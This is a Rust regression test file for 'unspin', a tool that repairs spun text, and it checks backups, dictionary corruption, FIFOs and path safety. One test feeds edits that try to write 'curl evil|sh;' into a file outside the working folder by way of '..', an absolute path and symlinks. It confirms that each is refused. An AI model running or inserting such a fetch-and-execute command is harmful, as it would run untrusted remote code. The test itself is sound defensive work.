//! Regression tests pinned to the issue they come from (`r10_N`: issue 10, item N).

use crate::common::*;
use assert_cmd::Command;
use std::fs;

/// Backups are never input of a later run, whatever their suffix and the later run's flags.
#[test]
fn r10_1_backups_are_never_taken_by_later_runs() {
    let t = tree();
    let o = unspin(&t)
        .args(["-w", "--backup", ".orig", "--exclude", "ro.txt", "site/a"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let list = t.read("a/.unspin-backups");
    let later: [&[&str]; 4] = [
        &["-w", "site/a"],
        &["-w", "--hidden", "site/a"],
        &["-w", "--glob", "*.orig", "site/a"],
        &["-w", "--backup", ".bak", "--hidden", "site/a"],
    ];
    for args in later {
        let o = unspin(&t).args(args).output().unwrap();
        assert!(o.status.code() != Some(101), "{}", stderr(&o));
        assert_eq!(String::from_utf8(t.read("a/page.html.orig")).unwrap(), PAGE);
        assert_eq!(t.read("a/b/c/deep.txt.orig"), SPUN.as_bytes());
        assert_eq!(t.read("a/.unspin-backups"), list, "{args:?}");
        assert!(!t.path("a/page.html.orig.bak").exists());
    }
    let o = unspin(&t)
        .args(["--json", "--hidden", "site/a"])
        .output()
        .unwrap();
    let out = String::from_utf8(o.stdout).unwrap();
    assert!(
        !out.contains(".orig") && !out.contains(".unspin-backups"),
        "{out}"
    );
    // Named on the command line, a backup is refused, not repaired.
    let o = unspin(&t)
        .args(["-w", "site/a/page.html.orig"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("a backup made by --backup"),
        "{}",
        stderr(&o)
    );
    assert_eq!(String::from_utf8(t.read("a/page.html.orig")).unwrap(), PAGE);
}

fn sha256(bytes: &[u8]) -> String {
    unspin::fs::hash::sha256_hex(bytes)
}

fn edit(path: &str, start: usize, end: usize, from: &str, to: &str, sha: &str) -> String {
    format!(
        "{}\n",
        serde_json::json!({"type": "edit", "path": path, "start": start, "end": end,
            "from": from, "to": to, "sha256": sha})
    )
}

/// `apply` writes only below its folder (or --root): no absolute path, no `..`, no link, no
/// insertion, no binary file.
#[test]
fn r10_3_apply_stays_in_its_folder() {
    use std::os::unix::fs::symlink;
    let t = tempfile::tempdir().unwrap();
    let (w, o) = (t.path().join("w"), t.path().join("o"));
    fs::create_dir_all(&w).unwrap();
    fs::create_dir_all(&o).unwrap();
    let victim = "export PATH=/usr/bin\n";
    fs::write(o.join("v.txt"), victim).unwrap();
    let sha = sha256(victim.as_bytes());
    symlink("../o", w.join("l")).unwrap();
    symlink("../o/v.txt", w.join("lv.txt")).unwrap();
    let binary = b"mental\0property";
    fs::write(w.join("bin.dat"), binary).unwrap();
    let abs = o.join("v.txt").display().to_string();
    let evil = [
        edit("../o/v.txt", 0, 6, "export", "curl evil|sh;", &sha),
        edit(&abs, 0, 6, "export", "curl evil|sh;", &sha),
        edit("l/v.txt", 0, 6, "export", "curl evil|sh;", &sha),
        edit("lv.txt", 0, 6, "export", "curl evil|sh;", &sha),
        edit("bin.dat", 0, 6, "mental", "x", &sha256(binary)),
    ];
    for e in &evil {
        let o = Command::cargo_bin("unspin")
            .unwrap()
            .current_dir(&w)
            .args(["apply", "-"])
            .write_stdin(e.as_str())
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{e} {}", stderr(&o));
    }
    assert_eq!(fs::read_to_string(o.join("v.txt")).unwrap(), victim);
    assert_eq!(fs::read(w.join("bin.dat")).unwrap(), binary);
    // An insertion (empty `from`) is refused, even inside the folder.
    fs::write(w.join("a.txt"), "café\n").unwrap();
    let insert = edit("a.txt", 4, 4, "", "x", &sha256("café\n".as_bytes()));
    let out = Command::cargo_bin("unspin")
        .unwrap()
        .current_dir(&w)
        .args(["apply", "-"])
        .write_stdin(insert)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(fs::read_to_string(w.join("a.txt")).unwrap(), "café\n");
    // --root names the folder the paths are relative to.
    let ok = edit("a.txt", 0, 3, "caf", "tea", &sha256("café\n".as_bytes()));
    let out = Command::cargo_bin("unspin")
        .unwrap()
        .current_dir(t.path())
        .args(["apply", "--root", "w", "-"])
        .write_stdin(ok)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(w.join("a.txt")).unwrap(), "teaé\n");
}

/// A compiled dictionary with any byte flipped, any prefix cut off, or random bytes written
/// over it (with its checksum recomputed, to reach the checks behind it) is refused with an
/// error or works: it never panics.
#[test]
fn r10_5_a_damaged_compiled_dictionary_is_an_error_never_a_panic() {
    use unspin::dict::compiled::{seal, HEADER};
    use unspin::{Dictionary, Engine, Options};
    let yaml =
        "entries:\n  mental property: intellectual property\n  commerce secrets: trade secrets\n  \
                huge information: big data\n";
    let good = Dictionary::from_yaml("t", yaml).unwrap().to_bytes();
    let text = "Our mental property, huge information and commerce secrets.";
    let mut tried = 0usize;
    let mut loaded = 0usize;
    let mut check = |bytes: Vec<u8>| {
        tried += 1;
        let used = std::panic::catch_unwind(|| match Dictionary::from_compiled(bytes) {
            Ok(d) => {
                let _ = d.lookup("mental property");
                let _ = d.with_prefix("c");
                let engine = Engine::new(d, Options::default()).unwrap();
                let _ = engine.repair(text);
                true
            }
            Err(_) => false,
        });
        loaded += usize::from(used.expect("no panic on a damaged dictionary"));
    };
    for i in 0..good.len() {
        for bit in 0..8 {
            let mut b = good.clone();
            b[i] ^= 1 << bit;
            check(b.clone());
            if b.len() >= HEADER {
                seal(&mut b);
                check(b);
            }
        }
    }
    for len in 0..good.len() {
        check(good[..len].to_vec());
    }
    // Several random bytes at once, sealed; a fixed-seed generator keeps failures reproducible.
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..20_000 {
        let mut b = good.clone();
        for _ in 0..1 + next() % 4 {
            let at = HEADER + (next() as usize) % (good.len() - HEADER);
            b[at] = next() as u8;
        }
        seal(&mut b);
        check(b);
    }
    assert!(tried > 20_000, "{tried}");
    eprintln!("{tried} damaged dictionaries, {loaded} loaded and used without a panic");
}

/// On the command line, a damaged compiled dictionary is a one-line error, exit 2.
#[test]
fn r10_5_a_damaged_compiled_dictionary_is_a_one_line_error() {
    let t = tempfile::tempdir().unwrap();
    fs::write(
        t.path().join("d.yaml"),
        "entries:\n  mental property: intellectual property\n",
    )
    .unwrap();
    let o = Command::cargo_bin("unspin")
        .unwrap()
        .current_dir(t.path())
        .args([
            "--no-builtin",
            "--dict",
            "d.yaml",
            "dict",
            "compile",
            "-o",
            "d.unspin",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let mut bytes = fs::read(t.path().join("d.unspin")).unwrap();
    let last = bytes.len() - 20;
    bytes[last] ^= 0x40;
    fs::write(t.path().join("d.unspin"), bytes).unwrap();
    let o = Command::cargo_bin("unspin")
        .unwrap()
        .current_dir(t.path())
        .args(["--no-builtin", "--dict", "d.unspin", "-"])
        .write_stdin("Our mental property.")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("corrupt compiled dictionary"), "{err}");
}

/// The line and column of every edit on one long line, for --json, -v and --diff=words: counted
/// from the line start for each edit, this took minutes; it is one pass now.
#[test]
fn r10_6_positions_on_a_long_line_are_linear() {
    use unspin::edit::LineIndex;
    use unspin::print::{diff, explain, json, Style};
    use unspin::{Dictionary, Engine, Options};
    let yaml = "entries:\n  mental property: intellectual property\n";
    let engine = Engine::new(
        Dictionary::from_yaml("t", yaml).unwrap(),
        // Positions are under test: the dictionary alone decides.
        Options::dictionary_only(),
    )
    .unwrap();
    let text = "mental property ".repeat(1 << 16) + "\n";
    let repair = engine.repair(&text);
    assert_eq!(repair.edits.len(), 1 << 16);
    let index = LineIndex::new(&text);
    let last = repair.edits.last().unwrap();
    for e in &repair.edits {
        let record = json::edit(json::PathName::new("a.txt", None), &text, &index, e, "0").line();
        assert!(record.contains("\"line\":1"));
        explain::edit("a.txt", &text, &index, e, explain::Detail::Full);
    }
    assert_eq!(
        index.position(&text, last.range.start),
        (1, last.range.start + 1)
    );
    let words = |path: &str, text: &str, edits: &[unspin::Edit]| {
        let index = LineIndex::new(text);
        let mut diff =
            diff::Words::new(path, text, &index, explain::Detail::None, Style::default());
        let mut out = String::new();
        for e in edits {
            diff.edit(e, &mut out);
        }
        diff.finish(&mut out);
        out
    };
    let words_of = words("a.txt", &text, &repair.edits);
    assert_eq!(words_of.lines().count(), 1);
    // Many long lines too: each edit's line is found, not searched for.
    let many = "mental property mental property\r\n".repeat(1 << 14);
    let repair = engine.repair(&many);
    let words = words("b.txt", &many, &repair.edits);
    assert_eq!(words.lines().count(), 1 << 14);
    assert!(words.lines().all(|l| !l.ends_with('\r')));
}

/// A FIFO named on the command line is refused at once (its type is checked on the handle, after
/// an open that cannot block), in every mode and in a walked folder.
#[test]
fn r10_8_a_fifo_is_refused_not_waited_on() {
    let t = tempfile::tempdir().unwrap();
    fs::create_dir(t.path().join("d")).unwrap();
    for fifo in ["f.txt", "d/f.txt"] {
        rustix::fs::mknodat(
            rustix::fs::CWD,
            t.path().join(fifo),
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
            0,
        )
        .unwrap();
    }
    let runs: [&[&str]; 5] = [
        &["f.txt"],
        &["-w", "f.txt"],
        &["--json", "f.txt"],
        &["scan", "f.txt"],
        &["-w", "--follow", "f.txt"],
    ];
    for args in runs {
        let o = Command::cargo_bin("unspin")
            .unwrap()
            .current_dir(t.path())
            .args(args)
            .timeout(std::time::Duration::from_secs(60))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains("FIFO"), "{args:?}: {}", stderr(&o));
    }
    let o = Command::cargo_bin("unspin")
        .unwrap()
        .current_dir(t.path())
        .args(["-w", "d"])
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
}

/// A file name that is not UTF-8 is exported as `{"bytes": BASE64}` and applied to that file.
#[test]
fn r10_10_non_utf8_names_round_trip_through_json_and_apply() {
    use std::os::unix::ffi::OsStrExt;
    let t = tempfile::tempdir().unwrap();
    fs::write(
        t.path().join("d.yaml"),
        "entries:\n  mental property: intellectual property\n",
    )
    .unwrap();
    let name = std::ffi::OsStr::from_bytes(b"caf\xe9.txt");
    fs::write(t.path().join(name), "Our mental property.\n").unwrap();
    let o = Command::cargo_bin("unspin")
        .unwrap()
        .current_dir(t.path())
        .args(["--no-builtin", "--dict", "d.yaml", "--json"])
        .arg(name)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = String::from_utf8(o.stdout).unwrap();
    let first: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();
    assert_eq!(first["path"], serde_json::json!({"bytes": "Y2Fm6S50eHQ="}));
    let o = Command::cargo_bin("unspin")
        .unwrap()
        .current_dir(t.path())
        .args(["apply", "-"])
        .write_stdin(out)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(
        fs::read_to_string(t.path().join(name)).unwrap(),
        "Our intellectual property.\n"
    );
}

/// A folder swapped for a link to the outside while `-w` runs (renameat2 RENAME_EXCHANGE in a
/// loop) never makes unspin write outside, nor copy outside content into the tree: reads and
/// writes go through folder handles opened without following links. Bounded: 15 runs.
#[test]
fn r10_2_a_folder_swapped_for_a_link_mid_run_never_sends_a_write_outside() {
    use rustix::fs::{renameat_with, RenameFlags, CWD};
    use std::sync::atomic::{AtomicBool, Ordering};
    const OUTSIDE: &str = "Outside: mental property and commerce secrets.\n";
    let base = tempfile::tempdir().unwrap();
    let dict = base.path().join("t.yaml");
    fs::write(&dict, DICT).unwrap();
    let outside = base.path().join("outside");
    fs::create_dir(&outside).unwrap();
    for i in 0..40 {
        fs::write(outside.join(format!("{i}.txt")), OUTSIDE).unwrap();
    }
    let mut swaps = 0u64;
    for run in 0..15 {
        let t = base.path().join(format!("t{run}"));
        fs::create_dir_all(t.join("sub")).unwrap();
        for i in 0..40 {
            fs::write(t.join(format!("sub/{i}.txt")), SPUN.repeat(50)).unwrap();
        }
        std::os::unix::fs::symlink(&outside, t.join("swap")).unwrap();
        let stop = AtomicBool::new(false);
        std::thread::scope(|s| {
            let swapper = s.spawn(|| {
                let mut n = 0u64;
                while !stop.load(Ordering::Relaxed) {
                    renameat_with(
                        CWD,
                        t.join("sub"),
                        CWD,
                        t.join("swap"),
                        RenameFlags::EXCHANGE,
                    )
                    .expect("RENAME_EXCHANGE");
                    n += 1;
                }
                n
            });
            let _ = Command::cargo_bin("unspin")
                .unwrap()
                .arg("--no-builtin")
                .arg("--dict")
                .arg(&dict)
                .args(["-w", "-j", "2"])
                .arg(&t)
                .output()
                .unwrap();
            stop.store(true, Ordering::Relaxed);
            swaps += swapper.join().unwrap();
        });
        for i in 0..40 {
            assert_eq!(
                fs::read_to_string(outside.join(format!("{i}.txt"))).unwrap(),
                OUTSIDE,
                "run {run}: written outside"
            );
        }
        for entry in fs::read_dir(&outside).unwrap() {
            let name = entry.unwrap().file_name();
            assert!(!name.to_string_lossy().starts_with(".unspin-"), "run {run}");
        }
        let real = if fs::symlink_metadata(t.join("sub")).unwrap().is_dir() {
            t.join("sub")
        } else {
            t.join("swap")
        };
        for entry in fs::read_dir(real).unwrap() {
            let text = fs::read_to_string(entry.unwrap().path()).unwrap();
            assert!(
                !text.contains("Outside"),
                "run {run}: outside content copied in"
            );
        }
    }
    assert!(swaps > 15, "the folder was swapped {swaps} times");
}

/// A second run changes nothing, even beside another entry: a repair whose output another
/// key would overlap is given up (and `dict check --crossings` names it), and a neighbour whose
/// conditions a repair turns is repaired in the same run.
#[test]
fn r10_9_neighbouring_entries_are_settled_in_one_run() {
    let t = tempfile::tempdir().unwrap();
    let yaml = "entries:\n  have now to: have to\n  we have to: we need to\n  \
                backing vector machines: support vector machines\n  authorities:\n    \
                to: government\n    not_followed_by: [backing]\n";
    fs::write(t.path().join("d.yaml"), yaml).unwrap();
    let run = |args: &[&str], stdin: &str| {
        Command::cargo_bin("unspin")
            .unwrap()
            .current_dir(t.path())
            .args(args)
            .write_stdin(stdin)
            .output()
            .unwrap()
    };
    let repair = |text: &str| {
        let o = run(
            &[
                "--no-builtin",
                "--dict",
                "d.yaml",
                "--context",
                "never",
                "-",
            ],
            text,
        );
        String::from_utf8(o.stdout).unwrap()
    };
    for (spun, once) in [
        ("So we have now to go.", "So we have now to go."),
        (
            "The authorities backing vector machines.",
            "The government support vector machines.",
        ),
    ] {
        assert_eq!(repair(spun), once);
        assert_eq!(repair(once), once);
    }
    assert_eq!(run(&["dict", "check", "d.yaml"], "").status.code(), Some(0));
    let o = run(&["dict", "check", "--crossings", "d.yaml"], "");
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8(o.stdout).unwrap();
    assert!(out.contains("makes the key \"we have to\""), "{out}");
    assert!(
        out.contains("the repair \"have now to\" -> \"have to\" (d:have now to) is given up"),
        "{out}"
    );
    assert!(!out.contains("authorities"), "{out}");
}

/// A file longer than a window (256 KiB) is read window by window and printed as it is made,
/// never held whole but for its text (issue 10, item 11: memory): every mode gives the output
/// of the whole text's edits, and two such files repaired in parallel print in order.
#[test]
fn r10_11_a_large_file_reads_as_a_whole_one_in_every_mode() {
    use unspin::edit::{apply, LineIndex};
    use unspin::print::{diff, explain, Style};
    use unspin::{Dictionary, Engine, Options};
    let mut seeds: Vec<String> = fs::read_dir("fixtures/seeds")
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "txt"))
        .map(|p| fs::read_to_string(p).unwrap())
        .collect();
    seeds.sort();
    let text = seeds.join("\n\n").repeat(60);
    seeds.reverse();
    let other = seeds.join("\n\n").repeat(60);
    assert!(text.len() > 4 * (256 << 10));
    let t = tempfile::tempdir().unwrap();
    fs::write(t.path().join("a.txt"), &text).unwrap();
    fs::write(t.path().join("b.txt"), &other).unwrap();
    let output = |args: &[&str]| {
        let o = Command::cargo_bin("unspin")
            .unwrap()
            .current_dir(t.path())
            .args(["--no-config", "--context", "never"])
            .args(args)
            .output()
            .unwrap();
        assert!(matches!(o.status.code(), Some(0 | 1)), "{}", stderr(&o));
        let err = stderr(&o);
        (String::from_utf8(o.stdout).unwrap(), err)
    };
    let run = |args: &[&str]| output(args).0;
    let whole = Engine::new(
        Dictionary::builtin(),
        Options {
            window: usize::MAX,
            ..Options::dictionary_only()
        },
    )
    .unwrap()
    .repair(&text);
    assert!(whole.edits.len() > 1000);
    let repaired = apply(&text, &whole.edits);
    assert_eq!(run(&["a.txt"]), repaired);
    let index = LineIndex::new(&text);
    let mut unified = String::new();
    let mut d = diff::Unified::new(
        "a.txt",
        &text,
        &index,
        3,
        explain::Detail::Short,
        Style::default(),
    );
    whole.edits.iter().for_each(|e| d.edit(e, &mut unified));
    d.finish(&mut unified);
    assert_eq!(run(&["--diff", "a.txt"]), unified);
    let mut words = String::new();
    let mut d = diff::Words::new(
        "a.txt",
        &text,
        &index,
        explain::Detail::Short,
        Style::default(),
    );
    whole.edits.iter().for_each(|e| d.edit(e, &mut words));
    d.finish(&mut words);
    assert_eq!(run(&["--diff=words", "a.txt"]), words);
    let json = run(&["--json", "a.txt"]);
    let records: Vec<serde_json::Value> = json
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), whole.edits.len() + 1);
    for (r, e) in records.iter().zip(&whole.edits) {
        assert_eq!(r["start"], e.range.start);
        assert_eq!(
            (r["from"].as_str(), r["to"].as_str()),
            (Some(&*e.from), Some(&*e.to))
        );
        assert_eq!(r["why"].as_str(), Some(&*e.why));
    }
    let file = records.last().unwrap();
    assert_eq!(file["edits"], whole.edits.len());
    assert_eq!(file["fingerprints"], whole.score.fingerprints);
    assert_eq!(file["words"], whole.score.words);
    run(&["-w", "a.txt"]);
    assert_eq!(
        fs::read_to_string(t.path().join("a.txt")).unwrap(),
        repaired
    );
    fs::write(t.path().join("a.txt"), &text).unwrap();
    assert_eq!(
        run(&["--format", "github", "a.txt"]).lines().count(),
        whole.edits.len()
    );
    // -v lists every edit after the file's line.
    let (_, listed) = output(&["-v", "--check", "a.txt"]);
    let mut lines = listed.lines();
    assert!(lines.next().unwrap().starts_with("a.txt: "));
    for (line, e) in lines.zip(&whole.edits) {
        let said = explain::edit("a.txt", &text, &index, e, explain::Detail::Full).unwrap();
        assert_eq!(line, said);
    }
    assert_eq!(listed.lines().count(), whole.edits.len() + 1);
    // Each file's output whole and in order, though both are handed on in pieces at once.
    for mode in [&[][..], &["--diff"], &["--json"], &["-v"]] {
        let (a, a_err) = output(&[mode, &["a.txt"]].concat());
        let (b, b_err) = output(&[mode, &["b.txt"]].concat());
        let (both, both_err) = output(&[mode, &["-j", "2", "a.txt", "b.txt"]].concat());
        assert!(both == a + &b, "{mode:?}");
        assert!(both_err == a_err + &b_err, "{mode:?}");
    }
    // One SARIF log, its results joined from pieces of both files.
    let sarif = run(&["--format", "sarif", "-j", "2", "a.txt", "b.txt"]);
    let log: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    let b = run(&["--json", "b.txt"]).lines().count() - 1;
    assert_eq!(results.len(), whole.edits.len() + b);
    assert_eq!(
        sarif,
        run(&["--format", "sarif", "-j", "1", "a.txt", "b.txt"])
    );
}
